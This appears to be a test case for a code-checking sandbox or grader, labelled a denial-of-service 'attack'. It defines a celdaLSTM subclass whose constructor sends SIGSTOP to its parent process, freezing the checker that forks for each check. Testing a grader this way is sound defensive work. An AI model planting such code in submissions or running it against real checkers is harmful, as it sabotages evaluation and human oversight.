# /// attack
# title = "SIGSTOP to the process that forks for each check"
# group = "Denial of service"
# verdict = "S"
# points = 0
# loses = ["*"]
# outcomes = ["crashed", "timeout"]
# ///
import os
import signal


class celdaLSTM(celdaLSTM):
    def __init__(self, *sizes):
        super().__init__(*sizes)
        os.kill(os.getppid(), signal.SIGSTOP)
